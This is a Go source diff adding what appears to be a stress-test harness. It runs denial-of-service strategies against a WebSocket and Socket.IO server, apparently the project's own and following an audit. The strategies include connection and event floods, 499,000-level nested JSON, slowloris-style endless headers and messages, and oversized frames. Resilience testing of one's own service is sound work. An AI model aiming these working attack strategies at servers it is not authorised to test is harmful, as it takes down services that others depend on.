@@ -1,0 +1,157 @@
+package siege
+
+import (
+	"bytes"
+	"fmt"
+	"strings"
+	"sync/atomic"
+	"time"
+)
+
+// A strategy is one way to spend a server's resources, over connections that it
+// opens anew until its attacker's time is over.
+type strategy struct {
+	name string
+	run  func(a *attacker)
+}
+
+var names atomic.Int64
+
+func name() string { return fmt.Sprintf("siege-%d", names.Add(1)) }
+
+// flooding sends frames over and over on a WebSocket, and reads what comes.
+func flooding(target string, first string, frames ...[]byte) func(*attacker) {
+	return func(a *attacker) {
+		l, err := a.webSocket(target)
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		l.discard()
+		if first != "" {
+			_, _ = l.Write(text(fmt.Sprintf(first, name())))
+		}
+		l.flood(bytes.Repeat(bytes.Join(frames, nil), 1+32<<10/len(bytes.Join(frames, nil))))
+	}
+}
+
+const (
+	register = `42["register",{"userId":"%s"}]`
+	nested   = 499_000
+)
+
+var strategies = []strategy{
+	// What an audit found.
+	{"long-polling sessions that fetch nothing", func(a *attacker) {
+		l, sid, err := a.session()
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		for {
+			if _, _, err := l.request("POST", longPoll+"&sid="+sid, "", "40\x1e"+strings.Repeat("40/a,\x1e", 100_000)+"3"); err != nil {
+				return
+			}
+		}
+	}},
+	{"a namespace that is left and joined", flooding(socketIO, "", text("41"), text("40"), bytes.Repeat(text(`42["ping"]`), 200))},
+	{"names", func(a *attacker) {
+		l, err := a.webSocket(socketIO)
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		l.discard()
+		tick := time.NewTicker(time.Second / 5)
+		defer tick.Stop()
+		for range tick.C {
+			if _, err := l.Write(text(fmt.Sprintf(register, name()))); err != nil {
+				return
+			}
+		}
+	}},
+	{"nested JSON with an attachment", flooding(socketIO, register,
+		text(`451-["offer",{"to":"x","from":"me","offer":`+strings.Repeat("[", nested)+strings.Repeat("]", nested)+`}]`), frame(true, 2, "x"))},
+	{"probes of one session", func(a *attacker) {
+		s, sid, err := a.session()
+		if err != nil {
+			return
+		}
+		defer s.Close()
+		for range 20 {
+			l, err := a.webSocket(socketIO + "&sid=" + sid)
+			if err != nil {
+				return
+			}
+			_, _ = l.Write(frame(true, 2, strings.Repeat("x", 1_000_000))[:260_000])
+		}
+		<-a.ctx.Done()
+	}},
+	{"as many connections as there may be", func(a *attacker) {
+		for {
+			if _, err := a.webSocket(volli); err != nil {
+				<-a.ctx.Done()
+				return
+			}
+		}
+	}},
+	{"large relays to a slow reader", func(a *attacker) {
+		me := name()
+		l, err := a.webSocket(socketIO)
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		l.discard()
+		_, _ = l.Write(text(fmt.Sprintf(register, me)))
+		l.flood(text(fmt.Sprintf(`42["custom-message",{"to":%q,"from":%q,"message":%q}]`, a.victim, me, strings.Repeat("x", 700_000))))
+	}},
+	{"events over the rate", flooding(socketIO, register, text(`42["ping"]`))},
+	{"lists that nobody reads", func(a *attacker) {
+		l, err := a.webSocket(socketIO)
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		l.flood(bytes.Repeat(text(`42["get-users"]`), 1000))
+	}},
+
+	// Further ones.
+	{"pings", flooding(volli, "", frame(true, 9, strings.Repeat("x", 125)))},
+	{"pongs", flooding(volli, "", frame(true, 10, ""))},
+	{"empty fragments", flooding(volli, "", frame(false, 1, ""), bytes.Repeat(frame(false, 0, ""), 1000), frame(true, 0, "{}"))},
+	{"fragments of one byte", flooding(volli, "", frame(false, 1, "{"), bytes.Repeat(frame(false, 0, " "), 1000), frame(true, 0, "}"))},
+	{"acknowledgements", flooding(socketIO, "", text("431[]"))},
+	{"packets without a meaning", flooding(socketIO, "", text("6"), text("3"))},
+	{"unknown namespaces", flooding(socketIO, "", text("40/"+strings.Repeat("n", 900_000)+","))},
+	{"questions for users", flooding(volli, "", text(`{"type":"discover","userId":"nobody"}`))},
+	{"messages that never end", func(a *attacker) {
+		for {
+			l, err := a.webSocket(volli)
+			if err != nil {
+				<-a.ctx.Done()
+				return
+			}
+			_, _ = l.Write(text(strings.Repeat("x", 1_000_000))[:999_000])
+		}
+	}},
+	{"what follows a protocol error", flooding(socketIO, "", text("9"), text(`42["ping"]`))},
+	{"requests in a row", func(a *attacker) {
+		l, err := a.dial()
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		l.discard()
+		l.flood(bytes.Repeat([]byte("GET /stats HTTP/1.1\r\nHost: siege\r\n\r\n"), 100))
+	}},
+	{"headers that never end", func(a *attacker) {
+		l, err := a.dial()
+		if err != nil {
+			return
+		}
+		defer l.Close()
+		_, _ = l.Write([]byte("GET /" + strings.Repeat("x", 16<<10)))
+		<-a.ctx.Done()
+	}},
+}
